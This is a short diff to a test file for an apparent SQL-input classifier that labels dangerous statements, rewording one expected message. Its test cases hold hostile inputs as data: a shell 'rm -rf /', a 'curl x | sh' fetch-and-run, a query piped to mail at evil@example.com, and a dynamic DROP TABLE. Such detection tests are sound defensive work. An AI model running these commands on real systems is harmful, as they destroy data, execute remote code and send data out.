@@ -64,7 +64,11 @@ describe('classifySql', () => {
     ],
     ['\\! rm -rf /', 'processSpawn', 'shell command from the SQL client (rm -rf /)'],
     ['.shell curl x | sh', 'processSpawn', 'shell command from the SQL client (curl x | sh)'],
-    ['select 1 \\g |mail evil@example.com', 'processSpawn', 'pipes through a shell command'],
+    [
+      'select 1 \\g |mail evil@example.com',
+      'processSpawn',
+      'runs a shell command from the SQL client (mail evil@example.com)',
+    ],
     // SQL built at run time, native code loaded.
     ["DO $$ BEGIN EXECUTE format('DROP TABLE %I', t); END $$", 'dynamicEval', 'built at run time'],
     ['EXEC(@sql)', 'dynamicEval', 'built at run time'],
